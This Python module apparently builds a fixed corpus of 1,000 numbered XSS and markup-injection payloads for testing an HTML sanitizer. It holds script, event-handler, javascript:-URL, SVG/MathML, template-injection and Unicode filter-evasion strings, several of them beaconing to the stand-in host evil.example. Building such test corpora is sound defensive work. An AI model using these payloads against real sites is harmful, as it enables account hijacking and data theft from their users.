"""A thousand strings that would run, load or lead away if any page of the desk took them for markup.

Each is a family's form around a thing to run and an address to call; forms and things are our own words. The
number of a payload stands in its address, so that a request says which one came through.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import count, islice, product

COUNT = 1000
HOST = "evil.example"

_RUNS: tuple[Callable[[int], str], ...] = (
    lambda n: f"alert({n})",
    lambda n: f"top.document.title='out {n}'",
    lambda n: f"fetch('https://{HOST}/{n}')",
    lambda n: f"top.location='https://{HOST}/{n}'",
    lambda n: f"parent.document.body.innerHTML='out {n}'",
    lambda n: f"confirm`{n}`",
    lambda n: f"window.open('//{HOST}/{n}')",
    lambda n: f"new Image().src='//{HOST}/{n}'",
    lambda n: f"parent.postMessage({{scrolled:{n},ready:true,scroll:'x'}},'*');prompt({n})",
)
"""What a payload wants to have run."""

_FORMS = (
    # Scripts, in the ways in which they are spelled to get by a filter.
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT >",
    "<script src=//{host}/{n}.js></script>",
    '<script src="data:text/javascript,{run}"></script>',
    "<script/x>{run}</script/x>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    '<script nonce="abc{n}">{run}</script>',
    '<script nonce="">{run}</script>',
    "<script type=module>import 'https://{host}/{n}.js'</script>",
    "<script>{run}",
    "\\u003cscript>{run}\\u003c/script>",
    "%3Cscript%3E{run}%3C/script%3E",
    # Elements that load, with what happens when they do or do not.
    '<img src=x onerror="{run}">',
    "<img src=https://{host}/{n}.png>",
    '<img srcset="//{host}/{n}.png 2x">',
    "<image href=//{host}/{n}.png onerror={run}>",
    "<video poster=//{host}/{n}.png src=//{host}/{n}.mp4 onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input type=image src=//{host}/{n} onerror={run}>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<marquee onstart={run}>",
    "<b onmouseover={run} style=position:fixed;inset:0;z-index:99>x</b>",
    "<table background=//{host}/{n}><td background=//{host}/{n}>",
    "<link rel=stylesheet href=//{host}/{n}.css>",
    "<link rel=prefetch href=//{host}/{n}>",
    "<link rel=dns-prefetch href=//{host}>",
    "<object data=//{host}/{n}></object>",
    "<embed src=//{host}/{n}>",
    "<applet code=x archive=//{host}/{n}>",
    "<portal src=//{host}/{n}>",
    # Frames.
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "<iframe src=//{host}/{n}></iframe>",
    "<iframe src='javascript:{run}'></iframe>",
    "<frameset><frame src=//{host}/{n}></frameset>",
    # Addresses.
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java&#10;script:{run}",
    "&#106;avascript:{run}",
    "\x01javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "<a href=javascript:{run}>out</a>",
    "[out](javascript:{run})",
    "[out](<javascript:{run}>)",
    "![x](https://{host}/{n}.png)",
    '![x](x "\\" onerror={run} x=")',
    "<javascript:{run}>",
    "[x]: javascript:{run}",
    "//{host}/{n}",
    "\\\\{host}\\{n}",
    "https://{host}@127.0.0.1/{n}",
    # Style.
    "<style>@import url(//{host}/{n}.css);</style>",
    "<style>*{{background:url(https://{host}/{n})}}</style>",
    '<p style="background:url(//{host}/{n})">x</p>',
    '<p style="width:expression({run})">x</p>',
    "</style><script>{run}</script>",
    "}} body{{background:url(//{host}/{n})}} /*",
    # The page itself.
    '<meta http-equiv=refresh content="0;url=https://{host}/{n}">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<base href=https://{host}/{n}/>",
    "<form action=https://{host}/{n}><button autofocus>go</button></form>",
    "<button formaction=//{host}/{n}>go</button>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</select></details></li></ol><img src=x onerror={run}>",
    "</iframe></dialog><script>{run}</script>",
    "</head></html><script>{run}</script>",
    "<plaintext>{run}",
    "<template><script>{run}</script></template>",
    "<div id=said></div><meta name=desk content=stolen data-edition=x>",
    "<iframe id=thing data-live src=//{host}/{n}></iframe>",
    "<button data-act=drop data-story={n} data-key=c>x</button>",
    # Out of an attribute.
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    '" onmouseover="{run}" x="',
    "' onfocus='{run}' autofocus tabindex=1 x='",
    "` onerror={run} `",
    '" autofocus onfocus={run} "',
    "&quot;><img src=x onerror={run}>",
    # Other languages within HTML.
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={run}>'/></svg>",
    "<svg><animate onbegin={run} attributeName=x>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    '<math href="javascript:{run}">x</math>',
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    # Templates of servers and of browsers.
    "{{{{ {run} }}}}",
    "{{{{ self.__init__.__globals__ }}}} <script>{run}</script>",
    "{{% include '/etc/passwd' %}} {run}",
    "${{{run}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "<?php {run} ?>",
    "<x-tag ng-app>{{{{constructor.constructor('{run}')()}}}}</x-tag>",
    # Comments, sections and what ends them.
    "<!-- {run}",
    "--><script>{run}</script><!--",
    "--!><img src=x onerror={run}>",
    "<!--[if mso]><script>{run}</script><![endif]-->",
    "<![CDATA[<script>{run}</script>]]>",
    "]]><script>{run}</script>",
    "<!-- note: --><script>{run}</script>",
    "<!-- story {n} --><img src=x onerror={run}>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    # Letters that are seen otherwise than they are read.
    "<\x00script>{run}</script>",
    "<img\x0bsrc=x\x0conerror={run}>",
    "\u2028<script>{run}</script>\u2029",
    "\u202e<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<script\u00a0>{run}</script>",
    "\x1b[31m<svg onload={run}>",
    "</script><script>{run}</script>",
    "';{run};//",
    '";{run};//',
    "\\';{run};//",
    "data: {run}\n\nevent: x\ndata: <script>{run}</script>",
)


def payloads() -> tuple[str, ...]:
    """All of them, always the same; every twentieth is long."""
    return tuple(islice(_numbered(), COUNT))


def _numbered() -> Iterator[str]:
    numbers = count(1)
    for run, form in product(_RUNS, _FORMS):
        n = next(numbers)
        made = form.format(run=run(n), host=HOST, n=n) + ("" if "{run}" in form else f" {n}")
        yield made if n % 20 else f"{'a' * 300} {made} {'ü' * 300}"
